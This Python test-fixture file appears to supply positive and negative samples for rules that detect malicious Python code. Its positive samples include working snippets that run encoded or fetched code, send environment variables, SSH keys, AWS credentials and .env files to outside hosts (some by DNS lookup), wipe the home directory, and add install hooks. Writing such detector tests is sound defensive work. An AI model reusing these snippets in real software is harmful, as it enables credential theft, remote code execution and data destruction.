"""What the rules over programs in Python must and must not meet; none of it does harm."""

import base64
from collections.abc import Mapping

_Samples = tuple[Mapping[str, bytes], ...]

# `print("hello")`, more than once: harmless, and long enough to be worth hiding.
_ENCODED = base64.b64encode(b'print("hello"); print("hello")').decode()
# `https://collect.acme.dev/in`
_ADDRESS = base64.b64encode(b"https://collect.acme.dev/in").decode()


def _script(*codes: str) -> _Samples:
    return tuple({"content/scripts/a.py": code.encode()} for code in codes)


def _text(*codes: str) -> _Samples:
    return tuple({"content/a.md": f"# A\n\n```python\n{code}\n```\n".encode()} for code in codes)


_FETCH = 'import requests\ncode = requests.get("https://acme.dev/x").text\n'

POSITIVE: Mapping[str, _Samples] = {
    "code/runs-encoded-text": _script(
        f'import base64\nexec(base64.b64decode("{_ENCODED}"))',
        f'import base64 as b\nrun = exec\ntext = b.b64decode("{_ENCODED}").decode()\nrun(text)',
        f'import os, base64\nos.system(base64.b64decode("{_ENCODED}").decode())',
        f"import zlib, marshal\nexec(marshal.loads(zlib.decompress({_ENCODED.encode()!r})))",
        f'import subprocess, base64\nsubprocess.run(["sh", "-c", base64.b64decode("{_ENCODED}")])',
    ),
    "code/runs-decoded-text": _script(
        "import base64\ndef go(text):\n    exec(base64.b64decode(text))",
        "import zlib\nunpack = lambda text: zlib.decompress(text[::-1])\nexec((unpack)(DATA))",
    ),
    "code/runs-fetched-text": _script(
        f"{_FETCH}exec(code)",
        f"{_FETCH}import subprocess\nsubprocess.run(code, shell=True)",
        "import urllib.request, os\n"
        'def order():\n    return urllib.request.urlopen("https://acme.dev").read().decode()\n'
        "def obey(text):\n    os.popen(text.strip())\nobey(order())",
        'import socket, subprocess\ns = socket.socket()\ns.connect(("acme.dev", 1))\n'
        "subprocess.getoutput(s.recv(1024).decode())",
    ),
    "code/runs-fetched-file": _script(
        "import requests, subprocess\n"
        'with open("/tmp/tool", "wb") as file:\n    file.write(requests.get("https://a").content)\n'
        'subprocess.run(["/tmp/tool"])',
        "import urllib.request, os\n"
        'urllib.request.urlretrieve("https://acme.dev/t", "tool.sh")\nos.system("tool.sh")',
    ),
    "code/loads-fetched-code": _script(
        "import pickle\nfrom urllib.request import urlopen\n"
        'rules = pickle.loads(urlopen("https://acme.dev/r").read())',
        'import pandas as pd\nrows = pd.read_pickle("https://acme.dev/r.pkl")',
        "import io, requests, torch\n"
        'torch.load(io.BytesIO(requests.get("https://acme.dev/w.pt").content))',
        "import joblib, urllib.request\n"
        'path, _ = urllib.request.urlretrieve("https://acme.dev/w")\njoblib.load(path)',
        "import yaml, requests\n"
        'yaml.load(requests.get("https://acme.dev/r").text, Loader=yaml.UnsafeLoader)',
        "import ctypes, urllib.request\n"
        'urllib.request.urlretrieve("https://acme.dev/l", "/tmp/l.so")\nctypes.CDLL("/tmp/l.so")',
        "import sys, urllib.request\n"
        'urllib.request.urlretrieve("https://acme.dev/p", "/tmp/p.zip")\n'
        'sys.path.insert(0, "/tmp/p.zip")',
        'import requests, subprocess, sys\nwith open("s.py", "w") as file:\n'
        '    file.write(requests.get("https://acme.dev/s").text)\n'
        'subprocess.run([sys.executable, "s.py"])',
    ),
    "code/sends-environment": _script(
        'import os, requests\nrequests.post("https://a", json={"all": dict(os.environ)})',
        "import json, os\nfrom urllib.request import Request, urlopen\n"
        'body = json.dumps(os.environ.copy()).encode()\nurlopen(Request("https://a", data=body))',
        "import os, requests\n"
        "found = {k: v for k, v in os.environ.items() if 'KEY' in k}\n"
        'requests.post("https://a", data=found)',
    ),
    "code/sends-by-name-lookup": _script(
        "import os, socket, binascii\n"
        'named = binascii.hexlify(os.environ["KEY"].encode()).decode()\n'
        'socket.gethostbyname(f"{named}.t.acme.dev")',
    ),
    "code/sends-whole-folder": _script(
        "import os, requests, shutil\n"
        'packed = shutil.make_archive("/tmp/a", "zip", os.path.expanduser("~/Documents"))\n'
        'requests.post("https://a", files={"f": open(packed, "rb")})',
    ),
    "code/sends-credentials": _script(
        "from pathlib import Path\nimport requests\n"
        'for found in Path.cwd().rglob(".env"):\n'
        '    requests.post("https://a", data=found.read_bytes())',
        "import requests\nfrom pathlib import Path\n"
        'key = (Path.home() / ".ssh" / "id_ed25519").read_text()\n'
        'requests.post("https://a", data=key)',
        "import os, subprocess\n"
        'path = os.path.expanduser("~/.aws/credentials")\n'
        'subprocess.run(["curl", "-T", path, "https://a"])',
        "import http.client, io, os, zipfile\nheld = io.BytesIO()\n"
        'with zipfile.ZipFile(held, "w") as packed:\n'
        '    for root, _, names in os.walk(os.path.expanduser("~/.ssh")):\n'
        "        for name in names:\n            packed.write(os.path.join(root, name))\n"
        'http.client.HTTPSConnection("acme.dev").request("POST", "/", held.getvalue())',
        "import tarfile, os, requests\n"
        'with tarfile.open("/tmp/a", "w") as packed:\n'
        '    packed.add(os.path.expanduser("~/.aws"))\n'
        'requests.post("https://acme.dev", data=open("/tmp/a", "rb"))',
        "import socket\nfrom pathlib import Path\n"
        'text = (Path.home() / ".zsh_history").read_text()\n'
        'socket.getaddrinfo(text[:50] + ".a.acme.dev", 80)',
    ),
    "code/encoded-address": _script(
        "import base64, requests\n"
        f'requests.post(base64.b64decode("{_ADDRESS}").decode(), json={{}})',
    ),
    "code/name-put-together": _script(
        '__import__("o" + "s").system("date")',
        'getattr(__builtins__, "".join(["ex", "ec"]))("1")',
        "import os\ngetattr(os, 'metsys'[::-1])('date')",
    ),
    "code/waits-for-date": _script(
        "import os\nfrom datetime import datetime\n"
        'if datetime.now() > datetime(2027, 1, 1):\n    os.system("date")',
        'import time, shutil\nif time.time() > 1800000000:\n    shutil.rmtree("/srv/a")',
    ),
    "code/removes-itself": _script(
        "import os\nos.remove(__file__)", "from pathlib import Path\nPath(__file__).unlink()"
    ),
    "code/removes-home": _script('import os, shutil\nshutil.rmtree(os.path.expanduser("~"))'),
    "code/setup-hook": _script(
        "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
        'class Hook(install):\n    def run(self):\n        os.system("date")\n'
        'setup(name="a", cmdclass={"install": Hook})'
    ),
    "code/dangerous-example": (
        *_text(f'import base64\nexec(base64.b64decode("{_ENCODED}"))', f"{_FETCH}exec(code)"),
        {
            "content/a.md": b"Run it:\n\npython3 -c 'import requests as r\n"
            b'exec(r.get("https://acme.dev/x").text)\'\n'
        },
    ),
    "code/explained-danger": _text(f"{_FETCH}exec(code)".replace("acme.dev", "example.com")),
    "code/program-too-large": _script(f"import requests\nexec({'(1 + 1) + ' * 40_000}1)"),
    "code/program-broken": _script("import requests\nexec(1\n"),
}
NEGATIVE: Mapping[str, _Samples] = {
    "code/runs-encoded-text": _script(
        f'import base64\nimage = base64.b64decode("{_ENCODED}")\nopen("a", "wb").write(image)',
        "model.eval()\ndata.eval('a + b')\nimport re\nre.compile('a')",
        'import subprocess\nsubprocess.run(["git", "status"], check=True)',
    ),
    "code/runs-decoded-text": _script(
        "import base64\ndef go(text):\n    return base64.b64decode(text)\nexec('1')"
    ),
    "code/runs-fetched-text": _script(
        "import requests, subprocess\n"
        'url = requests.get("https://acme.dev").json()["url"]\n'
        'subprocess.run(["git", "clone", url])\nsubprocess.run(f"ffmpeg -i {url}", shell=True)',
    ),
    "code/runs-fetched-file": _script(
        "import requests, subprocess\n"
        'open("data.json", "wb").write(requests.get("https://acme.dev").content)\n'
        'subprocess.run(["git", "status"])',
    ),
    "code/loads-fetched-code": _script(
        'import pickle\nmodel = pickle.load(open("model.pkl", "rb"))',
        "import io, requests, torch\n"
        'torch.load(io.BytesIO(requests.get("https://a").content), weights_only=True)',
        'import yaml, requests\nyaml.safe_load(requests.get("https://acme.dev/r").text)',
        "import yaml, requests\n"
        'yaml.load(requests.get("https://acme.dev/r").text, Loader=yaml.SafeLoader)',
        'import sys, requests\nsys.path.insert(0, "src")\nrequests.get("https://acme.dev")',
        "import requests, subprocess, sys\n"
        'open("a.json", "w").write(requests.get("https://acme.dev/s").text)\n'
        'subprocess.run([sys.executable, "check.py"])',
    ),
    "code/sends-environment": _script(
        "import os, requests, subprocess\n"
        "env = dict(os.environ)\nsubprocess.run(['a'], env=env)\n"
        'requests.post(env["ACME_URL"], json={"name": os.environ.get("NAME")})',
        "import os, requests\n"
        "ours = {k: v for k, v in os.environ.items() if k.startswith('ACME_')}\n"
        'requests.post("https://acme.dev", json=ours)',
    ),
    "code/sends-by-name-lookup": _script(
        "import socket\nprint(socket.gethostbyname('acme.dev'), b'a'.hex())",
    ),
    "code/sends-whole-folder": _script(
        "import shutil, requests\n"
        'packed = shutil.make_archive("/tmp/a", "zip", "dist")\n'
        'requests.post("https://acme.dev", files={"f": open(packed, "rb")})',
    ),
    "code/sends-credentials": _script(
        "from dotenv import dotenv_values\nimport requests\n"
        'kept = dotenv_values(".env")\n'
        'requests.post("https://acme.dev", json={"key": kept["ACME_KEY"]})',
        "import requests\nfrom pathlib import Path\n"
        'token = (Path.home() / ".config" / "acme" / "token").read_text()\n'
        'requests.post("https://acme.dev", headers={"Authorization": token}, json={"a": 1})',
        "import subprocess\nsubprocess.run(['ssh', '-i', '~/.ssh/id_ed25519', 'acme.dev'])",
        "import re, requests\n"
        'found = re.search("ACME_ROOM=(.*)", open(".env").read())\n'
        'requests.post("https://acme.dev", json={"room": found.group(1)})',
    ),
    "code/encoded-address": _script(
        'import base64, requests\nrequests.post("https://acme.dev", data=base64.b64encode(b"a"))'
    ),
    "code/name-put-together": _script(
        'import importlib\nimportlib.import_module("json")\ngetattr(obj, f"handle_{kind}")()'
    ),
    "code/waits-for-date": _script(
        "import time, os\nif time.time() - made > 3600:\n    os.system('date')",
        "from datetime import date\nif date.today() > date(2027, 1, 1):\n    print('new')",
    ),
    "code/removes-itself": _script("import os\nos.remove(path)\nprint(__file__)"),
    "code/removes-home": _script("import shutil\nshutil.rmtree('build')"),
    "code/setup-hook": _script("from setuptools import setup\nsetup(name='a')"),
    "code/dangerous-example": _text(
        'import requests\nprint(requests.get("https://acme.dev").json())',
        f"{_FETCH}exec(code)".replace("acme.dev", "example.com"),
    ),
    "code/explained-danger": _text("import subprocess\nsubprocess.run(['git', 'status'])"),
    "code/program-too-large": _script("import requests\nexec('1')"),
    "code/program-broken": _script("import requests\nexec('1')"),
}
